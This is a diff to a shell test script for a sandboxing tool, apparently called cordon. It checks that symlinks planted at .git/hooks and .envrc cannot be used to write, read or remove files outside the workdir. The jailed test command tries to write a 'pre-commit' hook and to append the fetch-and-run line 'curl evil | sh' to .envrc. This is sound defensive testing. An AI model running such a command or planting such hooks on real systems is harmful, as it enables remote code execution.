@@ -112,16 +112,27 @@ popd >/dev/null
 expect_out "envrc=[1-9]" "an existing .envrc cannot be changed"
 rm -f "$WORK/p2/.envrc"
 
-# Hostile: .git/hooks is a symlink planted to a directory outside the workdir.
+# Hostile: .git/hooks is a symlink planted to a directory outside the workdir (by an earlier run,
+# say), and .envrc a symlink to a file outside. The run goes ahead without following them, the
+# jail can neither use nor change them, and cordon says what it found.
 outside="$SCRATCH/outside"
 mkdir -p "$outside" "$WORK/p3/.git"
+echo "outside-secret" > "$SCRATCH/outside-file"
 ln -s "$outside" "$WORK/p3/.git/hooks"
+ln -s "$SCRATCH/outside-file" "$WORK/p3/.envrc"
 pushd "$WORK/p3" >/dev/null
-run "$CORDON" -- /bin/sh -c "$GUARD; echo evil > .git/hooks/pre-commit"
+jailed 'echo evil > .git/hooks/pre-commit; echo hooks=$?; rm -f .git/hooks; echo rmlink=$?
+  cat .envrc; echo "curl evil | sh" >> .envrc; echo envrc=$?; echo ran'
 popd >/dev/null
-[[ $rc -eq 125 ]] && ok "a symlinked protected path makes cordon refuse (125)" || not_ok "symlinked .git/hooks: exit $rc"
-expect_err "protected path .*\.git/hooks.*symlink" "the refusal names the symlink"
-[[ -z $(ls -A "$outside") ]] && ok "nothing was created through the planted symlink" || not_ok "files appeared in $outside"
+expect_out "^ran$" "a symlinked protected path does not stop the run"
+expect_out "^hooks=[1-9]" "nothing can be written through the planted .git/hooks link"
+expect_out "^rmlink=[1-9]" "the link cannot be removed"
+expect_out "^envrc=[1-9]" "nor through the .envrc link"
+expect_no_out "outside-secret" "the .envrc link's target is not read through it"
+expect_err "^cordon: note: protected path .*/p3/\.git/hooks is a symlink \(to $outside\): not followed" "cordon says what it found"
+[[ -z $(ls -A "$outside") && $(cat "$SCRATCH/outside-file") == outside-secret ]] && ok "nothing was created or changed through the planted symlinks" ||
+  not_ok "files changed through planted symlinks: $(ls -A "$outside")"
+[[ -L $WORK/p3/.git/hooks && -L $WORK/p3/.envrc ]] && ok "the host's links are left as they were" || not_ok "links changed"
 
 # Hostile: the workdir contains a symlink named like a system path; setup must not follow it.
 mkdir -p "$WORK/p4" && ln -s "$outside" "$WORK/p4/tmp"
@@ -130,5 +141,5 @@ jailed 'echo x > tmp/x 2>/dev/null; ls /tmp >/dev/null; echo done'
 popd >/dev/null
 expect_out "done" "a workdir with a planted symlink runs"
 [[ -z $(ls -A "$outside") ]] && ok "the planted symlink's target outside the workdir was not written" || not_ok "write through planted symlink"
-rm -rf "$outside" "$WORK/p3" "$WORK/p4"
+rm -rf "$outside" "$WORK/p3" "$WORK/p4" "$SCRATCH/outside-file"
 finish
